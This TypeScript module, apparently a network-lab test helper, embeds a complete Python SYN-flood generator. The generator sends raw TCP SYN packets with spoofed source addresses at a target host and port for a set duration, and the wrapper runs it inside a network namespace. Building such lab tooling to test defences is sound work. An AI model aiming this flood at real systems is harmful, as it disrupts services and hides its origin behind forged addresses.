// A SYN flood from a raw socket in a namespace: SYNs from random spoofed sources (hosts that do
// not exist on the link, so nobody answers the SYN-ACKs) to dst:dport, for `secs` seconds.
import { nsExec, type ExecResult } from '../../src/tools/lab.ts';

const FLOOD = `
import random, socket, struct, sys, time
dst, dport, secs, net = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
def csum(b):
    t = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while t >> 16: t = (t & 0xffff) + (t >> 16)
    return ~t & 0xffff
d = socket.inet_aton(dst)
n = 0
end = time.monotonic() + secs
while time.monotonic() < end:
    src = socket.inet_aton(net + '.%d' % random.randint(100, 250))
    tcp = struct.pack('!HHIIBBHHH', random.randint(1024, 65535), dport, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    c = csum(src + d + struct.pack('!BBH', 0, 6, len(tcp)) + tcp)
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, 0, 0, 64, 6, 0, src, d)
    s.sendto(ip + tcp[:16] + struct.pack('!H', c) + tcp[18:], (dst, 0))
    n += 1
print(n)
`;

/** Flood dst:dport from ns with SYNs from NET.100-250 for secs; resolves with the count sent. */
export async function synFlood(ns: string, dst: string, dport: number, secs: number, net = dst.split('.').slice(0, 3).join('.')): Promise<number> {
  const r: ExecResult = await nsExec(ns, ['python3', '-c', FLOOD, dst, String(dport), String(secs), net], { timeoutMs: (secs + 20) * 1000, check: true });
  return Number(r.stdout.trim());
}
